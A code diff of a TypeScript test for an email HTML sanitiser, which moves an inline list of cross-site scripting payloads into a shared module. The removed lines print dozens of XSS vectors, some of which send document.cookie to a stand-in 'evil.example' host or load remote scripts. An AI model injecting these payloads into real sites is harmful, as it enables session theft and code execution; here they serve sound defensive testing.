@@ -6,76 +6,16 @@ import { campaignMail } from '../../src/capabilities/campaigns/campaign-mail.ts'
 import { mailOf } from '../../src/capabilities/notifications/deliver-event.ts'
 import { cleanMailHtml } from '../../src/mail/safe-html.ts'
 import { layOut } from '../../src/mails/layout.ts'
+import { hostileTexts } from '../hostile-html.ts'
 import { certificate } from '../raised-events.ts'
 import { person, testPassword, useTestServer } from '../test-server.ts'
 import { count, proofTime } from './size.ts'
 
 const server = useTestServer()
 
-const acts = [
-  'alert(document.domain)',
-  'fetch(`//evil.example/`+document.cookie)',
-  'import(`//evil.example/x`)',
-  'location=`//evil.example`',
-  'eval(name)',
-]
-const frames = [
-  '<script>ACT</script>',
-  '<ScRiPt src=//evil.example/x></sCrIpT>',
-  '<img src=x onerror=ACT>',
-  '<svg onload=ACT>',
-  '<svg><animate onbegin=ACT attributeName=x>',
-  '<body onload=ACT>',
-  '<iframe srcdoc="<script>ACT</script>">',
-  '<iframe src="javascript:ACT">',
-  '<a href="javascript:ACT">x</a>',
-  '<a href="java\tscript:ACT">x</a>',
-  '<math href="javascript:ACT">x',
-  '<form action="javascript:ACT"><button>x',
-  '<input autofocus onfocus=ACT>',
-  '<details open ontoggle=ACT>',
-  '<video><source onerror=ACT>',
-  '<object data="javascript:ACT">',
-  '<embed src="javascript:ACT">',
-  '<link rel=stylesheet href=//evil.example/x>',
-  '<style>@import "//evil.example/x"</style>',
-  '<base href=//evil.example/>',
-  '<meta http-equiv=refresh content="x;url=//evil.example">',
-  '"><script>ACT</script>',
-  "'><script>ACT</script>",
-  '" onmouseover="ACT',
-  "' onmouseover='ACT",
-  '" style="background:url(//evil.example/x)',
-  '--><script>ACT</script>',
-  ']]><script>ACT</script>',
-  '</title><script>ACT</script>',
-  '</p></div></body><script>ACT</script>',
-  '</textarea><script>ACT</script>',
-  '<<script>ACT//<</script>',
-  '<script\u2028>ACT</script>',
-  '\ufeff<script>ACT</script>',
-  '<img/src/onerror=ACT>',
-  '<noscript><p title="</noscript><img src=x onerror=ACT>">',
-  '<mxss><style><img title="</style><img src=x onerror=ACT>">',
-  '<template><script>ACT</script></template>',
-  '&lt;script&gt;ACT&lt;/script&gt;',
-  '&#60;script&#62;ACT&#60;/script&#62;',
-  '\\u003cscript\\u003eACT\\u003c/script\\u003e',
-  '%3Cscript%3EACT%3C/script%3E',
-  '${ACT}',
-  '{{constructor.constructor(`ACT`)()}}',
-  '__PRODUCT_NAME__<script>ACT</script>',
-  '$&<script>ACT</script>$`',
-  '+ADw-script+AD4-ACT+ADw-/script+AD4-',
-  'javascript:ACT',
-  'data:text/html,<script>ACT</script>',
-  '<xml onreadystatechange=ACT>',
-]
 /** Names of elements and handlers are the same in capitals. */
 const spellings = [(text: string) => text, (text: string) => `Anna ${text.toUpperCase()} Weber`]
-const payloads = frames.flatMap(frame =>
-  acts.flatMap(act => spellings.map(spelt => spelt(frame.replaceAll('ACT', act)))),
-)
+const payloads = hostileTexts.flatMap(text => spellings.map(spelt => spelt(text)))
 
 /** The marks of a page, which are those of its author as long as nobody else adds one. */
 const marksOf = (html: string) => html.match(/<[^>]*>/g) ?? []
